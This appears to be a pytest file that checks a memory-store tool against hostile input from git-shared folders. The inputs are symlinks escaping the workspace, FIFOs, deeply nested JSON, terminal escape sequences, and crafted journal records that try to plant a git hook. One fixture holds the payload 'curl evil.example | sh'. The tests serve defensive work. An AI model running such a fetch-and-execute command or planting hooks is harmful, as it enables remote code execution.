"""Hostile input: memory folders come from others through git, so any file, symlink or journal record in
them can be an attack. Each test reproduces one (symlinks out of the workspace, FIFOs, /dev/zero, deep
JSON, crafted journal records, concurrent commands) and asserts the clear error, that nothing outside a
temporary root was touched, and that the store stays consistent."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from lorekeeper.infra.safeio import NotRegularFile, OutsideRoot, ReadOnly, atomic_write, read_bytes
from lorekeeper.store import Journal, Refused
from lorekeeper.store.journal import UnknownOperation
from lorekeeper.workspace import Workspace
from support import Tree, git, lore


@pytest.fixture
def outside(tmp_path_factory) -> Path:
    """A folder outside the workspace: nothing may appear, change or vanish in it."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / "history-0123456789abcdef.json").write_text("{}")
    (folder / "keep.txt").write_text("untouched")
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def _records(tree: Tree) -> list[Path]:
    return sorted((tree.root / ".lore/memory/log").glob("*.json"))


# -- integrity: journal records are untrusted ------------------------------------------------------

def _two_commands(tree: Tree) -> tuple[Path, Path]:
    store = tree.store()
    store.add("Deploys happen from main only", journal=tree.journal())
    tree.store().add("Use pnpm, not npm", journal=tree.journal())
    older, newer = _records(tree)
    return older, newer


@pytest.mark.parametrize("damage", ["garbage", "truncated", "no-timezone", "future"])
def test_a_bad_newest_record_never_makes_undo_last_undo_an_older_command(tree: Tree, damage: str) -> None:
    older, newer = _two_commands(tree)
    text = newer.read_text()
    record = json.loads(text)
    if damage == "garbage":
        newer.write_text("\x00\x01 not json")
    elif damage == "truncated":
        newer.write_text(text[: len(text) // 2])
    elif damage == "no-timezone":
        newer.write_text(json.dumps({**record, "time": record["time"][:19]}))
    else:
        newer.write_text(json.dumps({**record, "time": "2999-01-01T00:00:00+00:00"}))
    entries = sorted((tree.root / ".lore/memory/entries").glob("*.json"))
    with pytest.raises(Refused, match="newest journal record .* cannot be used"):
        tree.journal().undo_last()
    assert sorted((tree.root / ".lore/memory/entries").glob("*.json")) == entries  # nothing undone
    for command in (["log"], ["status"], ["validate"]):  # and nothing crashes
        proc = lore(*command, cwd=tree.root)
        assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, (command, proc.stderr)
    assert "invalid-journal-record" in lore("validate", cwd=tree.root).stdout
    undo = lore("undo", "--last", cwd=tree.root)
    assert undo.returncode == 3 and "refusing to guess" in undo.stderr


def test_a_crafted_record_cannot_make_undo_write_code_or_git_hooks(tree: Tree) -> None:
    git(tree.root, "init", "-q")
    package = tree.write("package.json", '{"name": "app"}\n')
    tree.store().add("Use pnpm", journal=tree.journal())
    [real] = _records(tree)
    record = json.loads(real.read_text())
    import hashlib

    def blob(data: bytes) -> dict:
        return {"text": data.decode(), "sha256": hashlib.sha256(data).hexdigest()}

    evil = b'#!/bin/sh\ncurl evil.example | sh\n'
    crafted = {**record, "id": "29990101-000000-aaaaaa", "time": "2999-01-01T00:00:00+00:00", "op": "add",
               "files": [{"path": "package.json", "before": blob(evil), "after": blob(package.read_bytes())},
                         {"path": ".git/hooks/pre-commit", "before": blob(evil), "after": None}]}
    (tree.root / ".lore/memory/log/29990101-000000-aaaaaa.json").write_text(json.dumps(crafted))
    crafted_now = {**crafted, "id": "20200101-000000-bbbbbb", "time": "2020-01-01T00:00:00+00:00"}
    (tree.root / ".lore/memory/log/20200101-000000-bbbbbb.json").write_text(json.dumps(crafted_now))
    journal = tree.journal()
    records, findings = journal.records()
    assert [r.id for r in records] == [record["id"]]
    assert {f.source.rsplit("/", 1)[1] for f in findings} == {"29990101-000000-aaaaaa.json", "20200101-000000-bbbbbb.json"}
    assert any("not a memory file" in f.message for f in findings)
    with pytest.raises(Refused):
        journal.undo_last()
    with pytest.raises((Refused, UnknownOperation)):
        journal.undo("20200101-000000-bbbbbb")
    assert package.read_text() == '{"name": "app"}\n'
    assert not (tree.root / ".git/hooks/pre-commit").exists()


def test_a_crafted_batch_marker_cannot_make_recovery_write_outside_memory(tree: Tree) -> None:
    package = tree.write("package.json", '{"name": "app"}\n')
    import hashlib

    def blob(data: bytes) -> dict:
        return {"text": data.decode(), "sha256": hashlib.sha256(data).hexdigest()}

    log = tree.root / ".lore/memory/log"
    log.mkdir(parents=True, exist_ok=True)
    rid = "20260101-000000-cccccc"
    (log / f"{rid}.json").write_text(json.dumps({
        "id": rid, "time": "2026-01-01T00:00:00+00:00", "command": "x", "argv": "", "op": "add", "reason": "",
        "entries": [], "undoes": None,
        "files": [{"path": "package.json", "before": blob(b"pwned\n"), "after": blob(package.read_bytes())}]}))
    (log / f".batch-{rid}.json").write_text(json.dumps({"records": [rid, "../../package"]}))
    Journal(Workspace(tree.root))  # opening the journal runs recovery
    assert package.read_text() == '{"name": "app"}\n'


def test_a_write_is_refused_when_a_file_changes_while_the_batch_is_written(tree: Tree, monkeypatch) -> None:
    from lorekeeper.analysis.compaction import CompactionConfig, apply_plan, plan_compaction
    from lorekeeper.store import journal as journal_module

    for i in range(4):
        tree.entry(f"a{i}.json", {"id": f"a{i}", "content": f"Fact {i} about the cache", "created": "2026-01-01T00:00:00Z"})
        tree.entry(f"b{i}.json", {"id": f"b{i}", "content": f"fact {i} about the CACHE!", "created": "2026-02-01T00:00:00Z"})
    store = tree.store()
    plan = plan_compaction(store, CompactionConfig().with_overrides(fuse=False))
    before = snapshot(tree.root / ".lore/memory/entries")
    real_replace, calls = os.replace, []

    def replace(source, target):  # the rename that puts a file's new content in place
        if "/entries/" in str(target):
            calls.append(target)
            if len(calls) == 2:  # another program edits an entry the batch has not reached yet
                (tree.root / ".lore/memory/entries/a3.json").write_text('{"id": "a3", "content": "edited meanwhile"}\n')
        real_replace(source, target)

    monkeypatch.setattr(journal_module.os, "replace", replace)
    with pytest.raises(Refused, match="changed while the change was being written"):
        apply_plan(plan, store, tree.journal())
    after = snapshot(tree.root / ".lore/memory/entries")
    assert after["a3.json"] == b'{"id": "a3", "content": "edited meanwhile"}\n'  # their edit stands
    assert {k: v for k, v in after.items() if k != "a3.json"} == {k: v for k, v in before.items() if k != "a3.json"}
    assert not _records(tree)


def test_ten_concurrent_adds_of_one_fact_write_one_entry(tree: Tree) -> None:
    env = {**os.environ, "NO_COLOR": "1"}
    procs = [subprocess.Popen([sys.executable, "-m", "lorekeeper.surfaces.cli", "add", "Run the linter before pushing"],
                              cwd=tree.root, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(10)]
    codes = [p.wait(timeout=120) for p in procs]
    assert codes == [0] * 10
    assert len(list((tree.root / ".lore/memory/entries").glob("*.json"))) == 1
    assert len(_records(tree)) == 1


def test_read_only_files_symlinked_entries_and_the_umask(tree: Tree) -> None:
    from lorekeeper.analysis.compaction.actions import merge_into

    tree.entry("a.json", {"id": "a", "content": "Use pnpm."})
    tree.entry("b.json", {"id": "b", "content": "use PNPM", "tags": ["x"]})
    a = tree.root / ".lore/memory/entries/a.json"
    a.chmod(0o444)
    store = tree.store()
    by_id = store.by_id()
    try:
        with pytest.raises(Refused, match="read-only"):
            merge_into(store, by_id["a"], by_id["b"], tree.journal(), "test")
        assert "merged_into" not in a.read_text()
    finally:
        a.chmod(0o644)
    # A symlinked entry inside the root stays a link: the write goes to its target.
    real = tree.write("shared/c.json", json.dumps({"id": "c", "content": "Use uv."}))
    link = tree.root / ".lore/memory/entries/c.json"
    link.symlink_to(os.path.relpath(real, link.parent))
    store = tree.store()
    store.update(store.by_id()["c"], {"pinned": True}, journal=tree.journal(), op="pin", reason="t")
    assert link.is_symlink() and json.loads(real.read_text())["pinned"] is True
    # New files get the permissions the umask allows.
    old = os.umask(0o027)
    try:
        target = tree.root / ".lore/memory/entries/new.json"
        atomic_write(target, b"{}", tree.root)
        assert target.stat().st_mode & 0o777 == 0o640
    finally:
        os.umask(old)


def test_mif_flow_lists_keep_their_spacing(tree: Tree) -> None:
    path = tree.write(".lore/memory/mif/m.memory.md",
                      "---\nid: m\ntags: [api,  db]\nrelated: [x]\n---\n\n# Use pnpm\n\nbody\n")
    store = tree.store()
    store.update(store.by_id()["m"], {"pinned": True}, journal=tree.journal(), op="pin", reason="t")
    text = path.read_text()
    assert "tags: [api,  db]\n" in text and "related: [x]\n" in text and "pinned: true" in text


# -- outside the root --------------------------------------------------------------------------------

@pytest.mark.parametrize("linked", [".lore/cache", ".lore/memory/log", ".lore"])
def test_store_folders_that_link_out_of_the_workspace_are_never_written(tree: Tree, outside: Path, linked: str) -> None:
    tree.write("src/app.ts", "export function main() {}\n")
    tree.write("CLAUDE.md", "- Start in `src/app.ts` (`main`).\n")
    folder = tree.root / linked
    if folder.exists():
        import shutil

        if linked == ".lore":
            shutil.copytree(folder, outside / "lore-copy")
            shutil.rmtree(folder)
        else:
            shutil.rmtree(folder)
    folder.parent.mkdir(parents=True, exist_ok=True)
    target = outside / "lore-copy" if linked == ".lore" else outside
    folder.symlink_to(target, target_is_directory=True)
    before = snapshot(outside)
    for command in (["check-stale"], ["add", "Use pnpm"], ["compact"], ["status"]):
        proc = lore(*command, cwd=tree.root)
        assert "Traceback" not in proc.stderr, (command, proc.stderr)
    assert snapshot(outside) == before


def test_dangling_symlinks_are_not_followed_on_create(tree: Tree, outside: Path) -> None:
    cache = tree.root / ".lore/cache"
    cache.mkdir(parents=True)
    (cache / ".gitignore").symlink_to(outside / "created-by-gitignore")
    config = tree.root / ".lore/config.toml"
    config.symlink_to(outside / "created-by-init")
    tree.write("CLAUDE.md", "- Run `pnpm test`.\n")
    tree.write("package.json", '{"scripts": {"test": "vitest"}}\n')
    for command in (["init"], ["check-stale"]):
        proc = lore(*command, cwd=tree.root)
        assert "Traceback" not in proc.stderr, (command, proc.stderr)
    assert not (outside / "created-by-gitignore").exists() and not (outside / "created-by-init").exists()


def test_code_and_ignore_files_linked_out_of_the_workspace_are_not_read(tree: Tree, outside: Path) -> None:
    (outside / "secret.ts").write_text("export function leakedSecretFunction() {}\n")
    (outside / "gitignore").write_text("src/\n")
    tree.write("src/real.ts", "export function realFunction() {}\n")
    (tree.root / "src/linked.ts").symlink_to(outside / "secret.ts")
    (tree.root / ".gitignore").symlink_to(outside / "gitignore")
    from lorekeeper.refs.index import CodeIndex

    index = CodeIndex(Workspace(tree.root))
    assert index.read("src/linked.ts") is None and index.read("src/real.ts") is not None
    assert index.defined_in("leakedSecretFunction", "src/linked.ts") is None
    assert not Workspace(tree.root).ignored("src/real.ts")  # the linked .gitignore is no rules at all


# -- hangs, exhaustion, crashes ------------------------------------------------------------------------

def test_dev_zero_and_fifos_are_refused_without_blocking(tree: Tree) -> None:
    (tree.root / "src").mkdir()
    (tree.root / "src/zero.ts").symlink_to("/dev/zero")
    os.mkfifo(tree.root / "src/pipe.ts")
    os.mkfifo(tree.root / ".lore/memory/entries/fifo.json")
    os.mkfifo(tree.root / "AGENTS.md")
    tree.write("CLAUDE.md", "- `src/zero.ts` exports `zero`; `src/pipe.ts` exports `pipe`.\n")
    tree.entry("a.json", {"id": "a", "content": "See `src/pipe.ts`.", "refs": [{"path": "src/zero.ts", "symbol": "zero"}]})
    with pytest.raises(NotRegularFile):
        read_bytes(tree.root / "src/pipe.ts")
    with pytest.raises(OSError):
        read_bytes(tree.root / "src/zero.ts")
    for command in (["status"], ["validate"], ["check-stale"], ["verify", "--all"], ["list"]):
        proc = subprocess.run([sys.executable, "-m", "lorekeeper.surfaces.cli", *command], cwd=tree.root, capture_output=True,
                              text=True, timeout=60, env={**os.environ, "NO_COLOR": "1"})
        assert "Traceback" not in proc.stderr, (command, proc.stderr)
    validate = lore("validate", cwd=tree.root).stdout
    assert "not a regular file" in validate and "fifo.json" in validate


def test_json_nested_a_thousand_deep_is_one_finding(tree: Tree) -> None:
    deep = "[" * 5000 + "]" * 5000
    tree.entry("deep.json", '{"id": "deep", "content": "x", "extra": ' + deep + "}")
    tree.entry("ok.json", {"id": "ok", "content": "Use pnpm."})
    tree.write("package.json", '{"scripts": ' + "{" * 3000 + "}" * 3000 + "}")
    tree.write("CLAUDE.md", "- Run `pnpm test`.\n")
    tree.store().add("Another fact", journal=tree.journal())
    [record] = _records(tree)
    record.write_text('{"id": "x", "files": ' + deep + "}")
    for command in (["list"], ["validate"], ["check-stale"], ["log"], ["status"], ["compact", "--dry-run"]):
        proc = lore(*command, cwd=tree.root)
        assert "Traceback" not in proc.stderr and "RecursionError" not in proc.stderr, (command, proc.stderr)
    assert "deep.json" in lore("validate", cwd=tree.root).stdout
    assert "Use pnpm." in lore("list", cwd=tree.root).stdout


def test_safe_writes_refuse_targets_outside_and_read_only_files(tmp_path: Path, outside: Path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "out").symlink_to(outside)
    with pytest.raises(OutsideRoot):
        atomic_write(root / "out" / "x.json", b"{}", root)
    (root / "link.json").symlink_to(outside / "keep.txt")
    with pytest.raises(OutsideRoot):
        atomic_write(root / "link.json", b"{}", root)
    ro = root / "ro.json"
    ro.write_text("{}")
    ro.chmod(0o444)
    with pytest.raises(ReadOnly):
        atomic_write(ro, b"[]", root)
    assert snapshot(outside) == {"history-0123456789abcdef.json": b"{}", "keep.txt": b"untouched"}


def test_concurrent_lock_holders_take_turns(tree: Tree) -> None:
    from lorekeeper.store.lock import store_lock

    ws = Workspace(tree.root)
    order: list[str] = []
    inside = threading.Event()

    def other() -> None:
        inside.wait(5)
        with store_lock(ws):
            order.append("other")

    thread = threading.Thread(target=other)
    thread.start()
    with store_lock(ws):
        with store_lock(ws):  # re-entrant in one thread
            inside.set()
            thread.join(0.3)
            order.append("first")
    thread.join(5)
    assert order == ["first", "other"]


# -- output -------------------------------------------------------------------------------------------

def test_terminal_escapes_and_bidi_overrides_are_shown_not_sent(tree: Tree) -> None:
    evil = "Use pnpm \x1b[2J\x1b]0;pwned\x07 \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \u202egnp.exe"
    tree.entry("e.json", {"id": "e", "content": evil, "agent": "x\x1b[31mred", "tags": ["t\x1b[1m"]})
    tree.store().add("Another \x1b[2J fact", journal=tree.journal())
    tree.entry("dup.json", {"id": "dup", "content": evil.upper()})
    for command in (["list"], ["show", "e"], ["search", "pnpm"], ["log"], ["compact", "--dry-run"], ["status"]):
        proc = lore(*command, cwd=tree.root)
        for stream in (proc.stdout, proc.stderr):
            assert "\x1b" not in stream and "\u202e" not in stream and "\x07" not in stream, (command, stream)
    shown = lore("show", "e", cwd=tree.root).stdout
    assert "\\x1b[2J" in shown and "\\u202e" in shown  # made visible, not dropped


def test_nan_and_out_of_range_values_are_findings_and_json_stays_json(tree: Tree) -> None:
    tree.entry("n.json", '{"id": "n", "content": "x", "confidence": NaN, "extra_score": Infinity}')
    tree.entry("r.json", {"id": "r", "content": "y", "confidence": 5, "strength": -1, "access_count": -3})
    tree.entry("a.json", {"id": "a", "content": "z", "archived": "no"})
    store = tree.store()
    messages = {(f.entry, f.field): f.message for f in store.findings}
    assert "from 0 to 1" in messages[("n", "confidence")] and "from 0 to 1" in messages[("r", "confidence")]
    assert ("r", "strength") in messages and ("r", "access_count") in messages
    assert "archived" in messages[("a", "archived")]
    assert {e.id for e in store.live()} == {"n", "r", "a"}  # "archived": "no" does not hide the entry
    for command in (["list", "--json"], ["show", "n", "--json"], ["validate", "--json"]):
        def refuse(constant: str) -> None:
            raise ValueError(f"{constant} is not JSON")

        json.loads(lore(*command, cwd=tree.root).stdout, parse_constant=refuse)  # strict: no NaN, no Infinity


@pytest.mark.parametrize("damage", ["broken-git", "no-git-on-path"])
def test_history_that_cannot_be_read_is_said_once_and_never_judged(tree: Tree, damage: str) -> None:
    from support import commit

    tree.write("src/old.ts", "export function a() {}\n")
    tree.write("CLAUDE.md", "- Read `src/old.ts` first.\n- Then `src/other.ts`.\n")
    commit(tree, "one")
    (tree.root / "src/old.ts").unlink()
    commit(tree, "two")
    env = {**os.environ, "NO_COLOR": "1"}
    if damage == "broken-git":
        (tree.root / ".git/HEAD").write_text("garbage\n")
    else:
        env["PATH"] = str(Path(sys.executable).parent)  # python, lore: no git
    proc = subprocess.run([sys.executable, "-m", "lorekeeper.surfaces.cli", "check-stale", "--json"], cwd=tree.root,
                          capture_output=True, text=True, env=env, timeout=60)
    findings = json.loads(proc.stdout)["findings"]
    unavailable = [f for f in findings if f["kind"] == "history-unavailable"]
    assert len(unavailable) == 1 and "not judged by history" in unavailable[0]["message"]
    assert not [f for f in findings if f["severity"] == "error"]  # no "deleted in <commit>" without history
    assert not [f for f in findings if "never existed" in f["message"] or "deleted in" in f["message"]]


_DISK_FULL = """
import errno, sys, tempfile
def full(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device")
tempfile.mkstemp = full
sys.argv = ["lore", "add", "A fact that will not fit"]
from lorekeeper.surfaces.cli import main
main()
"""


def test_a_full_disk_and_a_store_that_is_a_file_are_clear_errors(tree: Tree, tmp_path_factory) -> None:
    proc = subprocess.run([sys.executable, "-c", _DISK_FULL], cwd=tree.root, capture_output=True, text=True,
                          timeout=60, env={**os.environ, "NO_COLOR": "1"})
    assert proc.returncode == 4 and "disk is full" in proc.stderr and "Traceback" not in proc.stderr
    assert not list((tree.root / ".lore/memory/entries").glob("*")) and not _records(tree)
    other = tmp_path_factory.mktemp("file-store")
    (other / ".git").mkdir()
    (other / ".lore").write_text("not a folder")
    for command in (["add", "Use pnpm"], ["init"], ["compact"]):
        result = lore(*command, cwd=other)
        assert result.returncode in (2, 3, 4) and "Traceback" not in result.stderr, (command, result.stderr)
        assert result.stderr.strip(), command
    assert ".lore is a file, not a folder" in lore("validate", cwd=other).stdout
    assert "1 error" in lore("status", cwd=other).stdout
